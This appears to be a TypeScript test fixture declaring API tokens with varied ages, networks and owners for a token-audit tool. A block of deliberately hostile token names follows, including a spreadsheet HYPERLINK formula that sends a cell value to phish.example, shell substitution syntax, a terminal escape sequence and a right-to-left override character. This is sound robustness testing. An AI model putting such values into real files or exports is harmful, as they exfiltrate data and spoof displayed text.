import { outside, token, within } from '../declare.ts';

const plants = within('plants');

export const tokens = [
  token('oktaql-audit', 'svc-oktaql', { caller: true }),
  token('siem-export', 'svc-siem', { createdDaysAgo: 75 }),
  token('terraform-prod', 'svc-terraform', { createdDaysAgo: 52, usedDaysAgo: 1 }),
  token('sap-master-data', 'svc-sap', { createdDaysAgo: 63, network: plants }),
  token('mes-osaka', 'svc-mes', { createdDaysAgo: 130, network: plants }),
  token('mes-dubai', 'svc-mes', { createdDaysAgo: 240, network: plants, usedDaysAgo: 5 }),
  token('mes-gdansk', 'svc-mes', { createdDaysAgo: 370, network: plants, usedDaysAgo: 12 }),
  token('sofia-admin-cli', 'sofia.rossi', { createdDaysAgo: 88, network: 'anywhere' }),
  token('osaka-onboarding', 'kenji.tanaka', { createdDaysAgo: 25, usedDaysAgo: 2, network: plants }),
  token('dubai-printers', 'layla.nasser', { createdDaysAgo: 190, usedDaysAgo: 15, network: 'absent' }),
  token('conveyor-robot', 'peter.novotny', { createdDaysAgo: 410, usedDaysAgo: 6, network: plants }),
  token('closing-2023', 'chloe.dubois', { createdDaysAgo: 620, usedDaysAgo: 29, network: plants }),
  token('legacy-cron', 'svc-legacy', { createdDaysAgo: 1200, network: 'absent' }),
  token('legacy-cron', 'svc-legacy', { createdDaysAgo: 1100, usedDaysAgo: 27, network: 'anywhere' }),
  token('directory-mirror', 'svc-mirror', { createdDaysAgo: 57, window: 'P90D', usedDaysAgo: 1 }),
  token('kiosk-lookup', 'svc-gateway', { createdDaysAgo: 36, network: outside('guest-wifi') }),
  token('shift-planner', 'svc-alerts', { createdDaysAgo: 42, network: within('old-plant') }),
  token('token1', 'svc-notify', { createdDaysAgo: 59, meaningless: true }),

  // Names that break careless programs: spreadsheets, CSV, tables, terminals.
  token('=HYPERLINK("http://phish.example/?t="&A1,"renew")', 'svc-export', { createdDaysAgo: 31 }),
  token('+49 call-back bot', 'svc-gateway', { createdDaysAgo: 54 }),
  token('-1 day retention job', 'svc-legacy', { createdDaysAgo: 82, network: plants }),
  token('@oncall-mention', 'svc-alerts', { createdDaysAgo: 68 }),
  token('the "old" exporter', 'svc-export', { createdDaysAgo: 46 }),
  token("O'Brien's rota", 'svc-hr', { createdDaysAgo: 73 }),
  token('sync, nightly, EU; US', 'svc-hr', { createdDaysAgo: 61 }),
  token('first line\nsecond line', 'svc-export', { createdDaysAgo: 39 }),
  token('carriage\r\nreturn', 'svc-export', { createdDaysAgo: 83 }),
  token('\tindented by a tab', 'svc-export', { createdDaysAgo: 32 }),
  token('deploy 🚀 bot 👩‍💻', 'svc-deploy', { createdDaysAgo: 43 }),
  token('人事同期ジョブ', 'svc-hr', { createdDaysAgo: 67 }),
  token('\u001b[31mred alert\u001b[0m', 'svc-alerts', { createdDaysAgo: 53 }),
  token('payroll \u202eftp\u202c export', 'svc-payroll', { createdDaysAgo: 48 }),
  token('مزامنة\u200f الرواتب', 'svc-payroll', { createdDaysAgo: 78 }),
  token('50% <b>off</b> | $(sale) `now` \\', 'svc-notify', { createdDaysAgo: 69 }),
  token(`interface ${'x'.repeat(240)}`, 'svc-sap', { createdDaysAgo: 35, network: plants }),
];
